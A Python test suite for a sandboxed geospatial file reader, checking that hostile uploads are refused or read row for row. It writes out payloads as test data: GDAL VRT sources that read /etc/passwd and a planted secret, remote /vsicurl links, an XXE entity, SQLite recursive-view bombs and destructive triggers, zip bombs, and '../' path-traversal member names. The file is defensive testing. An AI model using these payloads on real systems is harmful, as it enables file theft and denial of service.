"""Files that attack the server: each is refused in one clear sentence, or read row for row.

The numbers in the comments are those of the catalogue of hostile inputs: A files that attack,
D geometry. A listener counts packets; a secret lies beside the files and must not come back.
"""

import http.server
import io
import json
import os
import random
import sqlite3
import struct
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pytest
import shapely
from drawing import cell

import pbrt_geo
from pbrt_geo.errors import FileRefused
from pbrt_geo.read import geojson, geopackage, geoparquet, shapefile
from pbrt_geo.read.confined import environment
from pbrt_geo.read.sandbox import BoundaryFile, Limits, display_name, read_boundary_file

SECRET = "rahasia123"
LINUX = sys.platform == "linux"


@dataclass
class Trap:
    """A secret file and a listener; `sprung` holds what came in."""

    folder: Path
    address: str = ""
    sprung: list[str] = field(default_factory=list)

    @property
    def secret(self) -> Path:
        return self.folder / "secret.csv"


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[str]]]:
    heard: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_HEAD = do_POST = do_CONNECT = do_GET  # noqa: N815

        def log_message(self, *_: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}", heard
        server.shutdown()


@pytest.fixture
def trap(tmp_path: Path, listener: tuple[str, list[str]]) -> Iterator[Trap]:
    address, heard = listener
    heard.clear()
    trap = Trap(tmp_path, address, heard)
    trap.secret.write_text(f"name,nik\npassword: {SECRET},5207010101010001\n", encoding="utf-8")
    yield trap
    assert heard == []


def refused(source: Path | str | bytes, key: str, **options: Any) -> FileRefused:
    """Assert that a file is refused for a reason, in one sentence that gives nothing away."""
    start = time.monotonic()
    with pytest.raises(FileRefused) as caught:
        read_boundary_file(source, **options)
    assert time.monotonic() - start < 25
    (problem,) = caught.value.problems
    assert problem.key == key
    for language in ("id", "en"):
        text = problem.text(language)
        assert len(text.splitlines()) == 1
        assert len(text) < 400
        for leak in (SECRET, "Traceback", "GDAL", "sqlite", str(Path.home()), "/tmp", "pbrt-"):
            assert leak not in text
    return caught.value


def collection(*features: Any, **more: Any) -> dict[str, Any]:
    return {"type": "FeatureCollection", "features": list(features)} | more


def feature(shape: Any = None, **properties: Any) -> dict[str, Any]:
    shape = cell(0, 0) if shape is None else shape
    geometry = shape if isinstance(shape, dict) else json.loads(shapely.to_geojson(shape))
    return {"type": "Feature", "properties": properties, "geometry": geometry}


def polygon(*rings: Any) -> dict[str, Any]:
    return {"type": "Polygon", "coordinates": list(rings)}


def read_json(*features: Any, **more: Any) -> BoundaryFile:
    return read_boundary_file(json.dumps(collection(*features, **more)).encode())


def frame(n: int = 20, crs: int = 4326) -> gpd.GeoDataFrame:
    columns = {
        "kode": [f"52.07.01.2001.{i:03d}" for i in range(n)],
        "nama": ["Ma`ruf é"] * n,
        "n": range(n),
    }
    shapes = [cell(i, 0) for i in range(n)]
    return gpd.GeoDataFrame(columns, geometry=shapes, crs=4326).to_crs(crs)


def files_of(rows: gpd.GeoDataFrame, folder: Path) -> dict[str, bytes]:
    """Write rows in each of the four formats."""
    folder.mkdir(exist_ok=True)
    rows.to_file(folder / "a.geojson", driver="GeoJSON")
    rows.to_file(folder / "a.gpkg", layer="batas")
    rows.to_file(folder / "a.shp")
    rows.to_parquet(folder / "a.parquet")
    found = {kind: (folder / f"a.{kind}").read_bytes() for kind in ("geojson", "gpkg", "parquet")}
    parts = {
        f"a.{end}": (folder / f"a.{end}").read_bytes()
        for end in ("shp", "shx", "dbf", "prj", "cpg")
    }
    return found | {"zip": zipped(parts)}


def zipped(members: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return packed.getvalue()


def members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


# ── what is accepted ────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("crs", [4326, 32750])
def test_four_formats_come_back_row_for_row(tmp_path: Path, crs: int) -> None:
    rows = frame(crs=crs)
    for data in files_of(rows, tmp_path).values():
        file = read_boundary_file(data)
        assert file.rows.crs == rows.crs
        assert list(file.rows["kode"]) == list(rows["kode"])
        assert list(file.rows["nama"]) == list(rows["nama"])
        assert list(file.rows["n"]) == [str(n) for n in rows["n"]]
        pair = [
            shapely.normalize(shapes.to_numpy()) for shapes in (file.rows.geometry, rows.geometry)
        ]
        assert shapely.equals_exact(*pair, tolerance=1e-6).all()
        assert file.defects == {}


def test_a_path_and_its_name_do_not_decide_what_a_file_is(tmp_path: Path) -> None:
    (tmp_path / "peta.xlsx").write_bytes(json.dumps(collection(feature(nama="Goa"))).encode())
    file = read_boundary_file(tmp_path / "peta.xlsx")
    assert (file.name, file.kind, len(file.rows)) == ("peta.xlsx", "geojson", 1)


def test_codes_stay_as_written() -> None:  # 33-36 of the catalogue, in GeoJSON
    text = '{"kode": 52.10, "rt": "001", "nik": 9171010101010001, "kosong": null, "ada": true}'
    whole = json.dumps(collection(feature())).replace('"properties": {}', f'"properties": {text}')
    row = read_boundary_file(whole.encode()).rows.iloc[0]
    assert (row["kode"], row["rt"], row["nik"]) == ("52.10", "001", "9171010101010001")
    assert (row["kosong"] is None or row["kosong"] != row["kosong"], row["ada"]) == (True, "true")


def test_holes_islands_and_heights_of_a_shapefile(tmp_path: Path) -> None:
    ring = shapely.box(116.80, -8.80, 116.90, -8.70)
    hole = shapely.box(116.82, -8.78, 116.84, -8.76)
    with_hole = shapely.Polygon(ring.exterior, [hole.exterior])
    shapes = shapely.force_3d([shapely.MultiPolygon([with_hole, cell(500, 0)]), cell(600, 0)], 7)
    rows = gpd.GeoDataFrame({"nama": ["a", "b"]}, geometry=shapes, crs=4326)
    for data in files_of(rows, tmp_path).values():
        file = read_boundary_file(data)
        assert file.rows.geometry.iloc[0].area == pytest.approx(shapes[0].area)
        assert len(file.rows.geometry.iloc[0].geoms[0].interiors) == 1
        assert not shapely.has_z(file.rows.geometry).any()
        assert file.n_3d == 2


def test_an_old_table_in_a_windows_encoding(tmp_path: Path) -> None:
    parts = members_of(files_of(frame(2), tmp_path)["zip"])
    old = parts["a.dbf"].replace("é".encode(), "é ".encode("cp1252"))
    for note in (b"1252", None):
        told = {name: data for name, data in parts.items() if name != "a.cpg"} | {"a.dbf": old}
        told |= {"a.cpg": note} if note else {}
        assert set(read_boundary_file(zipped(told)).rows["nama"]) == {"Ma`ruf é"}


# ── A: files that attack the server ─────────────────────────────────────────────────────────────


def vrt(source: str, inner: str = "") -> str:
    layer = f'<OGRVRTLayer name="x"><SrcDataSource>{source}</SrcDataSource>{inner}</OGRVRTLayer>'
    return f"<OGRVRTDataSource>{layer}</OGRVRTDataSource>"


DISGUISES = (".geojson", ".json", ".gpkg", ".shp", ".csv", ".xml", ".zip", ".parquet", "")


def test_a_program_in_disguise_reads_nothing(trap: Trap) -> None:  # 1
    program = vrt(str(trap.secret))
    for suffix in DISGUISES:
        path = trap.folder / f"peta{suffix}"
        path.write_text(program, encoding="utf-8")
        refused(path, "file_markup")
    refused(program.encode(), "file_markup")
    refused(program, "file_missing")  # as the name of a file
    refused(zipped({"peta.geojson": program.encode()}), "zip_no_shp")
    refused(zipped({"peta.shp": program.encode(), "peta.dbf": b""}), "file_damaged")
    refused(b"\xef\xbb\xbf \n" + program.encode(), "file_markup")


@pytest.mark.parametrize(
    "hostile",
    [
        vrt("CSV:/etc/passwd"),  # 2
        vrt("registry.sqlite", "<SrcSQL>select * from hh</SrcSQL>"),  # 3
        vrt("registry.sqlite", "<SrcSQL>DELETE FROM hh</SrcSQL>"),  # 4
        vrt("/vsicurl/ADDRESS/a.csv"),  # 5
        vrt("ADDRESS/a.csv"),
        vrt("/vsicurl?header_file=SECRET&amp;url=ADDRESS/a.csv"),  # 6
        "<OGRWFSDataSource><URL>ADDRESS/wfs</URL></OGRWFSDataSource>",  # 7
        '<!DOCTYPE g [<!ENTITY e SYSTEM "SECRET">]><gml>&e;</gml>',  # 9
        "<kml><NetworkLink><Link><href>ADDRESS/k.kml</href></Link></NetworkLink></kml>",
    ],
)
def test_links_are_never_followed(trap: Trap, hostile: str) -> None:
    path = trap.folder / "peta.geojson"
    told = hostile.replace("ADDRESS", trap.address).replace("SECRET", str(trap.secret))
    path.write_text(told, encoding="utf-8")
    refused(path, "file_markup")


@pytest.mark.parametrize("name", ["/vsicurl/ADDRESS/a.geojson", "ADDRESS/a.geojson", "/vsizip/a"])
def test_an_address_is_not_a_file(trap: Trap, name: str) -> None:
    refused(name.replace("ADDRESS", trap.address), "file_missing")


def test_a_crs_that_is_a_link_is_not_opened(trap: Trap) -> None:  # 8
    for crs in (
        {"type": "link", "properties": {"href": f"{trap.address}/crs.wkt", "type": "ogcwkt"}},
        {"type": "name", "properties": {"href": f"{trap.address}/crs.wkt"}},
        f"{trap.address}/crs.wkt",
        [],
    ):
        refused(json.dumps(collection(feature(), crs=crs)).encode(), "json_crs_link")
    far = {"type": "name", "properties": {"name": f"{trap.address}/crs"}}
    refused(json.dumps(collection(feature(), crs=far)).encode(), "file_crs")


def test_links_in_the_other_formats_are_not_opened(trap: Trap) -> None:
    files = files_of(frame(2), trap.folder / "made")
    parts = members_of(files["zip"]) | {"a.prj": f"{trap.address}/prj.wkt".encode()}
    refused(zipped(parts), "file_crs")
    path = trap.folder / "srs.gpkg"
    path.write_bytes(files["gpkg"])
    change(
        path, f"UPDATE gpkg_spatial_ref_sys SET definition='{trap.address}/x', organization='NONE'"
    )
    refused(path, "file_crs")


def change(path: Path, *commands: str) -> None:
    database = sqlite3.connect(path)
    database.execute("PRAGMA writable_schema=1")
    for command in commands:
        database.execute(command)
    database.commit()
    database.close()


ENDLESS = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r)"
VIRTUAL = "CREATE VIRTUAL TABLE leak USING VirtualOGR(''SECRET'')"


@pytest.mark.parametrize(
    "commands",
    [
        (  # 10
            f"CREATE VIEW bomb AS {ENDLESS} SELECT n AS fid, NULL AS geom FROM r",
            "UPDATE gpkg_contents SET table_name='bomb' WHERE data_type='features'",
            "UPDATE gpkg_geometry_columns SET table_name='bomb'",
        ),
        (f"INSERT INTO sqlite_master VALUES('table','leak','leak',0,'{VIRTUAL}')",),
        ("CREATE TRIGGER evil AFTER INSERT ON batas BEGIN DELETE FROM batas; END",),
        (
            "ALTER TABLE batas ADD COLUMN slow TEXT AS (hex(zeroblob(100000000))) VIRTUAL",
            "UPDATE gpkg_contents SET identifier='x'",
        ),
    ],
)
def test_a_database_that_runs_by_itself(trap: Trap, commands: tuple[str, ...]) -> None:
    path = trap.folder / "peta.gpkg"
    path.write_bytes(files_of(frame(2), trap.folder / "made")["gpkg"])
    change(path, *(command.replace("SECRET", str(trap.secret)) for command in commands))
    refused(path, "gpkg_program")


def test_bombs_are_refused_from_the_directory_of_the_zip() -> None:  # 11, 12
    start = time.monotonic()
    zeros = zipped({"peta.shp": bytes(101 * 2**20), "peta.dbf": b""})
    assert len(zeros) < 200_000
    packing = time.monotonic() - start
    refused(zeros, "file_unpacked")
    refused(zipped({"peta.shp": bytes(2 * 2**20), "peta.dbf": b""}), "file_unpacked")  # ratio 1000
    refused(zipped({f"{i}.shp": b"" for i in range(65)}), "zip_members")
    assert time.monotonic() - start - packing < 10


def test_a_directory_that_lies_about_sizes() -> None:
    data = bytearray(zipped({"peta.shp": bytes(5000), "peta.dbf": b"x"}))
    at = data.find(b"PK\1\2") + 24  # uncompressed size in the directory
    data[at : at + 4] = struct.pack("<I", 10)
    refused(bytes(data), "file_damaged")


def test_members_with_evil_names_write_nothing(trap: Trap) -> None:  # 15
    parts = members_of(files_of(frame(2), trap.folder / "made")["zip"])
    evil = {f"../../../{name}": data for name, data in parts.items()}
    before = sorted(trap.folder.rglob("*"))
    assert len(read_boundary_file(zipped(evil)).rows) == 2
    assert sorted(trap.folder.rglob("*")) == before
    packed = io.BytesIO(zipped({"peta.dbf": b""}))
    with zipfile.ZipFile(packed, "a") as archive:
        link = zipfile.ZipInfo("peta.shp")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, str(trap.secret))
    refused(packed.getvalue(), "file_damaged")


def test_several_layers_are_named_and_copies_of_macos_ignored(tmp_path: Path) -> None:  # 16
    parts = members_of(files_of(frame(2), tmp_path)["zip"])
    two = parts | {name.replace("a.", "b."): data for name, data in parts.items()}
    assert "a, b" in str(refused(zipped(two), "file_layers"))
    assert len(read_boundary_file(zipped(two), layer="b").rows) == 2
    refused(zipped(two), "file_layers", layer="c")
    copies = parts | {f"__MACOSX/._{name}": b"x" for name in parts}
    assert len(read_boundary_file(zipped(copies)).rows) == 2
    refused(zipped({"dalam.zip": zipped(parts)}), "zip_no_shp")
    refused(zipped(parts | {"lain/a.shp": parts["a.shp"]}), "zip_twice")
    refused(zipped({"a.shp": parts["a.shp"]}), "zip_no_dbf")
    frame(2).to_file(tmp_path / "a.gpkg", layer="lain")
    assert "batas, lain" in str(refused(tmp_path / "a.gpkg", "file_layers"))
    assert len(read_boundary_file(tmp_path / "a.gpkg", layer="lain").rows) == 2


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\data\\peta.zip", "peta.zip"),
        ("a\u202egnp.zip", "agnp.zip"),
        ("a\0b\nc", "abc"),
        ("`<b>`", "b"),
        ("", "?"),
        ("x" * 300, "x" * 59 + "…"),
    ],
)
def test_a_file_name_is_display_text(name: str, shown: str) -> None:  # 17
    assert display_name(name) == shown
    assert f"`{shown}`" in str(refused(b"", "file_empty", name=name or "/"))


@pytest.mark.parametrize("path", ["", "a\0b", "x" * 300, "nowhere.geojson", "."])
def test_a_path_that_is_no_file(path: str) -> None:
    refused(path, "file_missing")


@pytest.mark.skipif(not LINUX, reason="pipes and devices are files here only on Unix")
def test_a_pipe_or_a_device_is_no_file(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.geojson")
    refused(tmp_path / "pipe.geojson", "file_missing")
    refused("/dev/zero", "file_missing")


def test_limits_hold(tmp_path: Path) -> None:  # 18
    data = json.dumps(collection(*[feature(i=i) for i in range(300)])).encode()
    refused(data, "file_too_large", limits=Limits(file_bytes=len(data) - 1))
    refused(data, "file_too_many_rows", limits=Limits(rows=299))
    refused(data, "file_slow", limits=Limits(wall_seconds=0))
    assert len(read_boundary_file(data, limits=Limits(rows=300, file_bytes=len(data))).rows) == 300
    wide = json.dumps(collection(feature(**{f"k{i}": i for i in range(300)}))).encode()
    refused(wide, "file_columns")
    assert Limits.of_megabytes(100) == Limits()
    assert Limits.of_megabytes(300).cpu_seconds == 3 * Limits().cpu_seconds
    refused(data, "file_too_large", limits=Limits.of_megabytes(0.01))
    parquet = files_of(frame(), tmp_path)["parquet"]
    refused(parquet, "file_unpacked", limits=Limits(unpacked_bytes=1000))


@pytest.mark.skipif(not LINUX, reason="the kernel limits time and memory only on Linux")
def test_a_file_that_eats_time_or_memory_is_stopped() -> None:
    greedy = b'{"type":"FeatureCollection","x":[' + b"[]," * 4_000_000 + b"[]]}"
    refused(greedy, "file_slow", limits=Limits(memory_bytes=400 * 2**20))
    heavy = b'{"type":"FeatureCollection","features":[' + b'{"a":1.5},' * 3_000_000 + b"1]}"
    refused(heavy, "file_slow", limits=Limits(cpu_seconds=1, rows=10**8))


# ── the walls ───────────────────────────────────────────────────────────────────────────────────

PROBE = """
import ctypes, json, os, socket, subprocess, sys, types
from pathlib import Path
package = types.ModuleType("pbrt_geo"); package.__path__ = [sys.argv[1]]
sys.modules["pbrt_geo"] = package
from pbrt_geo.read import confine
folder, secret, port = Path(sys.argv[2]), sys.argv[3], int(sys.argv[4])

def tries():
    found = {}
    for name, act in (
        ("file", lambda: open(secret).read()),
        ("connect", lambda: socket.create_connection(("127.0.0.1", port), 2)),
        ("program", lambda: subprocess.run([sys.executable, "-c", ""], check=True)),
        ("own", lambda: (folder / "own.txt").write_text("x")),
    ):
        try:
            act()
            found[name] = True
        except (OSError, subprocess.SubprocessError):
            found[name] = False
    return found

walls = {"network": confine.leave_network(), "files": confine.keep_only(folder)}
kernel = tries()
confine.guard(folder)
print(json.dumps({"walls": walls, "kernel": kernel, "python": tries()}))
"""


def test_the_walls_hold_one_by_one(trap: Trap) -> None:
    inner = trap.folder / "inner"
    inner.mkdir()
    package, port = str(Path(pbrt_geo.__file__).parent), trap.address.rsplit(":", 1)[1]
    told = [sys.executable, "-I", "-c", PROBE, package, str(inner), str(trap.secret), port]
    env = environment(inner)
    run = subprocess.run(told, capture_output=True, text=True, check=True, env=env, cwd=inner)
    found = json.loads(run.stdout)
    assert found["python"] == {"file": False, "connect": False, "program": False, "own": True}
    if not found["walls"]["network"] or not found["walls"]["files"]:
        pytest.skip("this system has no user namespaces or no Landlock: only Python's wall stands")
    assert found["kernel"] == {"file": False, "connect": False, "program": False, "own": True}


def test_every_reader_stands_behind_every_wall(tmp_path: Path) -> None:
    for data in files_of(frame(2), tmp_path).values():
        walls = read_boundary_file(data).walls
        assert set(walls) == {"network", "resources", "files", "python"}
        assert walls["python"]
        assert walls["resources"] or not LINUX


def test_no_secret_of_ours_goes_along(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PBRT_PASSWORD", SECRET)
    assert SECRET not in json.dumps(environment(tmp_path))
    assert not {"HOME", "PYTHONPATH"} & set(environment(tmp_path))


def test_the_readers_load_nothing_that_opens_links() -> None:
    names = [Path(str(module.__file__)) for module in (geojson, geopackage, geoparquet, shapefile)]
    imports = "; ".join(f"import pbrt_geo.read.{path.stem}" for path in names)
    start = "import sys, types; p = types.ModuleType('pbrt_geo'); p.__path__ = [sys.argv[1]]; "
    code = start + f"sys.modules['pbrt_geo'] = p; {imports}; print(*sys.modules)"
    told = [sys.executable, "-I", "-c", code, str(Path(pbrt_geo.__file__).parent)]
    loaded = subprocess.run(told, capture_output=True, text=True, check=True).stdout.split()
    assert not {"pyogrio", "osgeo", "fiona", "geopandas", "pbrt_geo.schema", "requests"} & set(
        loaded
    )
    assert "shapely" in loaded


# ── D: shapes and text ──────────────────────────────────────────────────────────────────────────

A, B, C, D = [116.8, -8.8], [116.9, -8.8], [116.9, -8.7], [116.8, -8.7]


@pytest.mark.parametrize(
    ("shape", "reason"),
    [
        (polygon([A, B, C, D]), "ring"),  # 53: not closed
        (polygon([A, B, A]), "ring"),  # 53: three points
        (polygon("abc"), "ring"),
        (polygon([A, [116.9], C, A]), "ring"),
        (polygon([A, ["116.9", "-8.8"], C, D, A]), "number"),  # 56: a string coordinate
        (polygon([A, [None, -8.8], C, D, A]), "number"),
        (polygon([A, [True, -8.8], C, D, A]), "number"),
        (polygon([A, [10**400, -8], C, D, A]), "number"),
        (polygon(), "empty"),
        ({"type": "MultiPolygon", "coordinates": []}, "empty"),
        ({"type": "Point", "coordinates": A}, "point"),
        ({"type": "LineString", "coordinates": [A, B]}, "line"),
        ({"type": "GeometryCollection", "geometries": []}, "collection"),
        ({"type": "Dodecahedron"}, "collection"),
    ],
)
def test_a_broken_shape_is_named_and_the_rest_is_read(shape: Any, reason: str) -> None:
    file = read_json(feature(nama="a"), feature(shape, nama="b"), feature(nama="c"))
    assert file.defects == {1: reason}
    assert list(file.rows["nama"]) == ["a", "b", "c"]
    assert list(file.rows.geometry.isna()) == [False, True, False]


def test_a_missing_shape_is_named(tmp_path: Path) -> None:  # 56
    nothing = {"type": "Feature", "properties": {"nama": "a"}, "geometry": None}
    assert read_json(nothing, feature()).defects == {0: "null"}
    rows = frame(3)
    rows.loc[1, "geometry"] = None
    for data in files_of(rows, tmp_path).values():
        file = read_boundary_file(data)
        assert (len(file.rows), file.defects) == (3, {1: "null"})


def test_invalid_rings_are_read_as_they_are() -> None:  # 52
    bow_tie = polygon([A, C, B, D, A])
    outside = polygon([A, B, C, D, A], [[1, 1], [2, 1], [2, 2], [1, 1]])
    file = read_json(feature(bow_tie), feature(outside))
    assert file.defects == {}
    assert not file.rows.geometry.is_valid.any()


def test_heights_are_dropped_and_counted() -> None:  # 55
    ring_3d = [[*point, 5] for point in (A, B, C, A)]
    ring_4d = [[*point, 5, 6] for point in (A, B, C, A)]
    file = read_json(feature(polygon(ring_3d)), feature(polygon(ring_4d)), feature())
    assert file.n_3d == 2
    assert not shapely.has_z(file.rows.geometry).any()


@pytest.mark.parametrize("name", ["urn:ogc:def:crs:OGC:1.3:CRS84", "urn:ogc:def:crs:EPSG::4326"])
def test_known_names_of_coordinate_systems(name: str) -> None:
    crs = {"type": "name", "properties": {"name": name}}
    assert read_json(feature(), crs=crs).rows.crs == "EPSG:4326"
    assert read_json(feature()).rows.crs == "EPSG:4326"
    assert read_json(feature(), crs=None).rows.crs is None
    other = {"type": "name", "properties": {"name": "EPSG:2154"}}
    refused(json.dumps(collection(feature(), crs=other)).encode(), "file_crs")


WHOLE = json.dumps(collection(feature(nama="Goa")))


@pytest.mark.parametrize(
    ("data", "key"),
    [
        (WHOLE.replace('"nama"', '"nama": "x", "nama"').encode(), "json_key_twice"),  # 58
        (WHOLE.replace("Goa", "G\\u0000oa").encode(), "file_nul"),
        (WHOLE.replace("Goa", "G\0oa").encode(), "file_nul"),
        (b'{"type":' + b"[" * 5000 + b"]" * 5000 + b"}", "json_deep"),
        (WHOLE[: len(WHOLE) // 2].encode(), "json_broken"),
        (WHOLE.encode("utf-16"), "file_not_utf8"),
        (WHOLE.replace("Goa", "G\udcffoa").encode("utf-8", "surrogateescape"), "file_not_utf8"),
        (b"<!DOCTYPE html><html>502 Bad Gateway</html>", "file_markup"),
        (b"", "file_empty"),
        (zipped({"[Content_Types].xml": b"", "xl/workbook.xml": b""}), "file_office"),
        (b"\x00\x01\x02", "file_unknown"),
        (b"kode,nama\n1,2\n", "file_unknown"),
        (WHOLE.replace("116.8,", "NaN,").encode(), "json_number"),
        (WHOLE.replace("116.8,", "9" * 5000 + ",").encode(), "json_number"),
        (b"{}", "json_not_collection"),
        (json.dumps(feature()).encode(), "json_not_collection"),
        (json.dumps(collection()).encode(), "file_no_rows"),
        (json.dumps(collection(feature(), 7)).encode(), "json_not_feature"),
        (
            json.dumps(collection({"type": "Feature", "properties": {}})).encode(),
            "json_not_feature",
        ),
        (json.dumps(collection(feature(geometry="x"))).encode(), "file_column_twice"),
        (zipfile.ZIP_DEFLATED.to_bytes(1, "big"), "file_unknown"),
        (b"PK\3\4rubbish", "file_damaged"),
        (b"SQLite format 3\0rubbish", "file_damaged"),
        (b"PAR1rubbish", "file_damaged"),
    ],
)
def test_files_that_are_not_what_they_should_be(data: bytes, key: str) -> None:
    refused(data, key)


def test_messages_say_what_to_do() -> None:
    told = refused(WHOLE[:60].encode(), "json_broken", name="desa.geojson").problems[0]
    assert told.text("id").startswith(
        "Berkas `desa.geojson` bukan JSON yang utuh: berhenti di baris 1"
    )
    assert told.text("id").endswith("Ekspor ulang dari sumbernya.")
    assert "Export it again" in told.text("en")


def test_rows_that_a_file_promises_but_does_not_hold(tmp_path: Path) -> None:
    files = files_of(frame(3), tmp_path)
    path = tmp_path / "short.gpkg"
    path.write_bytes(files["gpkg"])
    change(path, "UPDATE gpkg_ogr_contents SET feature_count = 4")
    refused(path, "file_rows_differ")
    parts = members_of(files["zip"])
    fewer = bytearray(parts["a.dbf"])
    fewer[4:8] = struct.pack("<I", 2)
    refused(zipped(parts | {"a.dbf": bytes(fewer)}), "file_rows_differ")
    header, width = struct.unpack_from("<HH", fewer, 8)
    gone = bytearray(parts["a.dbf"])
    gone[header + width] = ord("*")
    refused(zipped(parts | {"a.dbf": bytes(gone)}), "dbf_deleted")
    points = gpd.GeoDataFrame({"nama": ["a"]}, geometry=[shapely.Point(A)], crs=4326)
    assert read_boundary_file(files_of(points, tmp_path)["gpkg"]).defects == {0: "point"}
    refused(files_of(points, tmp_path)["zip"], "shp_not_polygon")


# ── 59: mutated files ───────────────────────────────────────────────────────────────────────────

PIECES = (b"\0", b"'", b"<", b"NaN", b"1e999", b"[[[[", b"\xff\xfe", b"\xff\xff\xff\x7f")


def mutated(data: bytes, rng: random.Random) -> bytes:
    made = bytearray(data)
    for _ in range(rng.choice([1, 1, 3, 10])):
        at = rng.randrange(len(made))
        way = rng.randrange(5)
        if way == 0:
            made[at] ^= 1 << rng.randrange(8)
        elif way == 1:
            return bytes(made[:at] or b"{")
        elif way == 2:
            made[at:at] = made[at : at + rng.randrange(1, 200)]
        elif way == 3:
            made[at : at + rng.randrange(1, 64)] = bytes(rng.randrange(1, 64))
        else:
            made[at:at] = rng.choice(PIECES)
    return bytes(made)


def mutants(folder: Path, n_each: int) -> list[bytes]:
    rng, found = random.Random(7), []
    files = files_of(frame(), folder)
    parts = members_of(files["zip"])
    for _ in range(n_each):
        found += [mutated(files[kind], rng) for kind in ("geojson", "gpkg", "parquet", "zip")]
        hurt = rng.choice(["a.shp", "a.dbf", "a.prj"])
        found.append(zipped(parts | {hurt: mutated(parts[hurt], rng)}))
    return found


def outcome(data: bytes) -> str:
    try:
        file = read_boundary_file(data)
    except FileRefused as error:
        return error.problems[0].key
    lost = set(np.flatnonzero(file.rows.geometry.isna()).tolist())
    expected = 20 if file.kind != "geojson" else len(json.loads(data)["features"])
    exact = len(file.rows) == expected and lost == set(file.defects)
    return "exact" if exact else "LOST ROWS"


def test_mutated_files_are_exact_or_refused(tmp_path: Path) -> None:
    with ThreadPoolExecutor(2) as pool:
        found = list(pool.map(outcome, mutants(tmp_path, n_each=12)))
    assert len(found) == 60
    assert "LOST ROWS" not in found
    assert "file_slow" not in found
    assert found.count("exact") >= 5
    assert len(set(found)) >= 4
